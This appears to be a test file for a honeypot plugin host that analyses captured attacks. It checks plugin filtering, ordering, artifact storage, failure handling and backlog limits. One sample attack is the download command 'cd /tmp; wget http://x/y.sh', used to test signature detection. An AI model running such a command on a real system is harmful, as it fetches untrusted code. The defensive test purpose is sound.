// The plugin host end to end inside one process: real plugin folders, the real
// worker engine, a real LevelDB store. Covers hot load/unload, filters,
// `after` ordering, artifacts handed to consumers, failures recorded with the
// attack and counted, auto-disable, operator disable kept in the store, and
// the bounded backlog.
import { rmSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { PluginRecord } from '../../src/generated/plugin-record.js';
import { HOST_API_VERSION } from '../../src/plugins/engine.js';
import { HostFixture, findWord, until } from './host-fixtures.js';

let fx: HostFixture;

beforeEach(async () => {
  fx = await HostFixture.create('ht-pipeline-');
});

afterEach(() => fx.close());

describe('plugin pipeline', () => {
  it('runs matching plugins and stores their findings with the attack', async () => {
    fx.plugin('find-wget', findWord('wget'));
    fx.plugin('only-udp', findWord('wget'), { consumes: { attacks: { protocols: ['udp'] } } });
    fx.plugin('only-port-80', findWord('wget'), {
      consumes: { attacks: { ports: [80, '8000-8100'] } },
    });
    const h = await fx.startHost();
    expect(h.list().map((p) => [p.name, p.state])).toEqual([
      ['find-wget', 'ready'],
      ['only-port-80', 'ready'],
      ['only-udp', 'ready'],
    ]);
    const r = await fx.results(h, await fx.attack('cd /tmp; wget http://x/y.sh', 8080));
    expect(Object.keys(r).sort()).toEqual(['find-wget', 'only-port-80']);
    expect(r['find-wget']).toMatchObject({
      plugin: 'find-wget',
      version: '1.0.0',
      status: 'ok',
      findings: [{ type: 'signature', value: 'wget', offset: 9 }],
      artifacts: [],
    });
    expect(h.list().find((p) => p.name === 'find-wget')?.counters).toMatchObject({
      runs: 1,
      ok: 1,
      failed: 0,
    });
  });

  it('gives a plugin the results of the plugins it runs after', async () => {
    fx.plugin(
      'first',
      `export default { async analyze() { await new Promise((r) => setTimeout(r, 200)); return { findings: [{ type: 'note', value: 'one' }] }; } };`,
    );
    fx.plugin(
      'second',
      `export default { analyze(input) { return { findings: [{ type: 'note', value: 'saw:' + JSON.stringify(Object.keys(input.results)) + ':' + input.results.first?.findings?.[0]?.value }] }; } };`,
      { after: ['first'] },
    );
    const h = await fx.startHost();
    const r = await fx.results(h, await fx.attack('x'));
    expect(r.second?.findings).toEqual([{ type: 'note', value: 'saw:["first"]:one' }]);
  });

  it('stores artifacts once by SHA-256 and hands them to the plugins that consume them', async () => {
    fx.plugin(
      'decoder',
      `export default { analyze(input) {
        const text = Buffer.from(input.attack.received.data, 'base64').toString();
        return { artifacts: [{ name: 'decoded.sh', contentType: 'text/x-shellscript', data: Buffer.from(text.split('|')[1]).toString('base64') }] };
      } };`,
      { capabilities: { artifacts: true } },
    );
    fx.plugin(
      'artifact-reader',
      `export default { analyze(input) { return { findings: [{ type: 'note', value: input.artifact.producer + ':' + Buffer.from(input.artifact.data, 'base64').toString() }] }; } };`,
      {
        consumes: { artifacts: { contentTypes: ['text/*'] } },
      },
    );
    const h = await fx.startHost();
    const a = await fx.attack('echo|#!/bin/sh busybox');
    h.submit(a);
    await h.pipeline.drained();
    const r = (await fx.store.get(a.id))!.plugins as Record<string, PluginRecord>;
    const ref = r.decoder?.artifacts[0];
    expect(ref).toMatchObject({ contentType: 'text/x-shellscript', size: 17, name: 'decoded.sh' });
    const stored = await fx.store.getArtifact(ref!.sha256);
    expect(stored?.data.toString()).toBe('#!/bin/sh busybox');
    expect(stored?.meta.attacks).toEqual([a.id]);
    const readerKey = `artifact-reader@${ref!.sha256.slice(0, 12)}`;
    expect(r[readerKey]).toMatchObject({
      status: 'ok',
      input: ref!.sha256,
      findings: [{ type: 'note', value: 'decoder:#!/bin/sh busybox' }],
    });
    // The same bytes from another attack: stored once, both attacks remembered.
    const b = await fx.attack('again|#!/bin/sh busybox');
    h.submit(b);
    await h.pipeline.drained();
    expect((await fx.store.getArtifact(ref!.sha256))?.meta.attacks).toEqual([a.id, b.id]);
  });

  it('refuses artifacts and network use the manifest does not grant, recording why', async () => {
    fx.plugin(
      'no-artifacts',
      `export default { analyze() { return { artifacts: [{ data: 'aGk=' }] }; } };`,
    );
    fx.plugin(
      'bad-shape',
      `export default { analyze() { return { findings: [{ type: 'url' }] }; } };`,
    );
    const h = await fx.startHost();
    const r = await fx.results(h, await fx.attack('x'));
    expect(r['no-artifacts']?.error).toEqual({
      code: 'HT_PLUGIN_DENIED',
      message: 'plugin no-artifacts: wrote artifacts without the artifacts capability',
    });
    expect(r['bad-shape']?.status).toBe('error');
    expect(r['bad-shape']?.error?.code).toBe('HT_PLUGIN_RESULT');
    expect(r['bad-shape']?.error?.message).toContain('/findings/0/value: is required');
  });

  it('records each failure with the attack, keeps the others running, and disables a plugin that keeps failing', async () => {
    fx.plugin('thrower', `export default { analyze() { throw new Error('boom'); } };`);
    fx.plugin('looper', `export default { analyze() { for (;;) {} } };`, {
      limits: { timeoutMs: 200, memoryMb: 64, concurrency: 1 },
    });
    fx.plugin('steady', findWord('x'));
    const h = await fx.startHost({ failureLimit: 3 });
    const r = await fx.results(h, await fx.attack('x'));
    expect(r.thrower?.error?.code).toBe('HT_PLUGIN_THREW');
    expect(r.thrower?.error?.message).toContain('boom');
    expect(r.looper?.error?.code).toBe('HT_PLUGIN_TIMEOUT');
    expect(r.steady?.status).toBe('ok');
    for (let i = 0; i < 2; i++) await fx.results(h, await fx.attack('x'));
    const list = await until('thrower disabled', () => {
      const l = h.list();
      return l.find((p) => p.name === 'thrower')?.state === 'failed' ? l : undefined;
    });
    const thrower = list.find((p) => p.name === 'thrower')!;
    expect(thrower.reason).toMatch(/^failed 3 times in a row; last: plugin thrower: .*boom/);
    expect(thrower.counters).toMatchObject({ runs: 3, failed: 3, consecutiveFailures: 3 });
    expect(list.find((p) => p.name === 'looper')?.counters.timeouts).toBe(3);
    expect(list.find((p) => p.name === 'steady')).toMatchObject({
      state: 'ready',
      counters: { ok: 3, failed: 0 },
    });
    // A disabled plugin is no longer called.
    const after = await fx.results(h, await fx.attack('x'));
    expect(Object.keys(after).sort()).toEqual(['steady']);
  });

  it('loads a plugin dropped in and unloads one taken out, without a restart', async () => {
    const h = await fx.startHost();
    expect(h.list()).toEqual([]);
    const dir = fx.plugin('late', findWord('late'));
    await until('late loaded', () =>
      h.list().find((p) => p.name === 'late' && p.state === 'ready'),
    );
    expect(Object.keys(await fx.results(h, await fx.attack('late')))).toEqual(['late']);
    rmSync(dir, { recursive: true });
    await until('late unloaded', () => (h.list().length === 0 ? true : undefined));
    expect(await fx.results(h, await fx.attack('late'))).toEqual({});
  });

  it('refuses a bad manifest by name, field and reason, and keeps the other plugins', async () => {
    fx.plugin('bad-api', findWord('x'), { hostApi: '^9.0.0' });
    fx.plugin('good', findWord('x'));
    const h = await fx.startHost();
    expect(h.list()).toEqual([
      expect.objectContaining({
        name: 'bad-api',
        state: 'invalid',
        reason: `/hostApi: plugin needs host API ^9.0.0, this host provides ${HOST_API_VERSION}`,
      }),
      expect.objectContaining({ name: 'good', state: 'ready' }),
    ]);
  });

  it('keeps an operator disable across restarts, and enable brings the plugin back', async () => {
    fx.plugin('toggled', findWord('x'));
    let h = await fx.startHost();
    expect((await h.registry.disable('toggled', 'disabled by the operator', true))?.state).toBe(
      'disabled',
    );
    await h.stop();
    h = await fx.startHost();
    expect(h.list()[0]).toMatchObject({
      name: 'toggled',
      state: 'disabled',
      reason: 'disabled by the operator',
    });
    expect((await h.registry.enable('toggled'))?.state).toBe('ready');
    expect(Object.keys(await fx.results(h, await fx.attack('x')))).toEqual(['toggled']);
  });

  it('sheds attacks beyond the backlog instead of queueing without bound, and counts them', async () => {
    fx.plugin(
      'slow',
      `export default { async analyze() { await new Promise((r) => setTimeout(r, 300)); return {}; } };`,
      {
        limits: { timeoutMs: 5000, memoryMb: 64, concurrency: 1 },
      },
    );
    const h = await fx.startHost({ maxBacklog: 5 });
    // Stored first, then submitted at once: none finishes while the others arrive.
    const attacks = [];
    for (let i = 0; i < 50; i++) attacks.push(await fx.attack(`a${i}`));
    for (const a of attacks) h.submit(a);
    expect(h.stats()).toMatchObject({ submitted: 50, shed: 45, backlog: 5 });
    await h.pipeline.drained();
    expect(h.stats()).toMatchObject({ processed: 5, backlog: 0 });
    expect(h.stats().latencyMs.samples).toBe(5);
  });
});
